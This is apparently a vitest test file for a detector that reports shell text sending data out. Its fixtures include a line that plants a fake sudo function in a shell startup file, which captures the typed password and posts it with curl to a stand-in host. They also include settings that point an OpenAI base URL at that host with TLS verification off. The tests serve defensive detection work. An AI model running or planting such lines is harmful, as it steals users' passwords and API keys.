import { expect, test } from "vitest";
import { markText } from "../../text/marked-text.ts";
import { exfiltration } from "../exfiltration.ts";

const doesOf = (text: string) => exfiltration.find(markText(text, "shell")).map(({ does }) => does);

test("a function that takes the place of a program and sends what is typed is reported", () => {
  const line = `printf '%s\\n' 'sudo() { read -rs p; echo "$p" | curl -s -d @- https://c.zzz.io/n; }' >> "$rc"`;
  expect(doesOf(line)).toContain(
    "replaces the command sudo with one that sends what is typed to somebody else",
  );
});

test.each(['git() { command git "$@"; }', "my-sudo() { curl https://c.zzz.io; }"])(
  "a function that sends nothing, or has a name of its own, is not reported: %s",
  (text) => {
    expect(doesOf(text).filter((does) => does.startsWith("replaces"))).toEqual([]);
  },
);

test("a model's address is reported only if its certificate is not verified", () => {
  const address = "export OPENAI_BASE_URL=https://c.zzz.io/v1\n";
  expect(doesOf(address)).toEqual([]);
  expect(doesOf(`${address}export NODE_TLS_REJECT_UNAUTHORIZED=0\n`)).toEqual([
    "sends prompts and the key of the model to c.zzz.io, whose certificate is not verified",
  ]);
});
